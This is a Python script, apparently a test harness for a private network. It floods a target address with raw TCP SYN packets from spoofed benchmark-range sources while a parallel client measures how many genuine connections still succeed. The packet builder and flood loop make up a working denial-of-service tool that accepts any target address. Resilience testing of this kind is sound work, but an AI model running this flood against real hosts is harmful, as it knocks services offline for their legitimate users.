"""A flood of SYNs from addresses that are nobody's, and healthy clients beside it; run inside a private network.

usage: flooder.py ADDRESS SECONDS SYNS_A_SECOND

Prints how many SYNs were sent, and how many healthy clients asked and were served, as JSON.
"""

from __future__ import annotations

import contextlib
import json
import multiprocessing
import random
import socket
import struct
import sys
import time

ECHO = 8007
DIFFERENT = 8192  # SYNs made before the flood begins, then sent over and over
BURST = 256
PATIENCE = 5.0  # seconds that a healthy client waits: its SYN may be lost in the crowd, and is sent again


def checksum(octets: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF ^ total


def syn(chance: random.Random, address: bytes) -> bytes:
    """Return an IPv4 packet with the SYN that Linux sends, from 198.18.0.0/15 (RFC 2544)."""
    source = bytes((198, 18 + chance.randrange(2), chance.randrange(256), chance.randrange(1, 255)))
    options = struct.pack("!BBHBBBBIIBBB", 2, 4, 1460, 4, 2, 8, 10, chance.getrandbits(32), 0, 1, 3, 3) + b"\x07"
    head = struct.pack(
        "!HHIIHHHH", chance.randrange(1024, 65_536), ECHO, chance.getrandbits(32), 0, 10 << 12 | 2, 64_240, 0, 0
    )
    segment = head + options
    pseudo = source + address + struct.pack("!HH", 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    total = 20 + len(segment)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 6, 0, source, address) + segment


def flood(address: str, seconds: float, rate: int) -> int:
    """Send SYNs, at most ``rate`` a second; return how many."""
    chance = random.Random(1)
    packets = [syn(chance, socket.inet_aton(address)) for _ in range(DIFFERENT)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = (address, 0)
    sent = 0
    began = time.perf_counter()
    while (passed := time.perf_counter() - began) < seconds:
        if sent > rate * passed:
            time.sleep(BURST / rate)
            continue
        for _ in range(BURST):
            with contextlib.suppress(OSError):  # the queue is full
                raw.sendto(packets[sent % DIFFERENT], target)
            sent += 1
    return sent


def heal(address: str, seconds: float, result: multiprocessing.queues.Queue[tuple[int, int]]) -> None:
    """Be one healthy client after another; tell how many there were and how many were served."""
    asked = served = 0
    until = time.perf_counter() + seconds
    while time.perf_counter() < until:
        asked += 1
        try:
            with socket.create_connection((address, ECHO), timeout=PATIENCE) as connection:
                connection.sendall(b"x")
                served += connection.recv(1) == b"x"
        except OSError:
            continue
        time.sleep(0.05)
    result.put((asked, served))


def main(address: str, seconds: float, rate: int) -> None:
    result: multiprocessing.queues.Queue[tuple[int, int]] = multiprocessing.Queue()
    healthy = multiprocessing.Process(target=heal, args=(address, seconds, result))
    healthy.start()
    began = time.perf_counter()
    sent = flood(address, seconds, rate)
    passed = time.perf_counter() - began
    asked, served = result.get()
    healthy.join()
    print(json.dumps({"sent": sent, "seconds": passed, "asked": asked, "served": served}))


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]), int(sys.argv[3]))
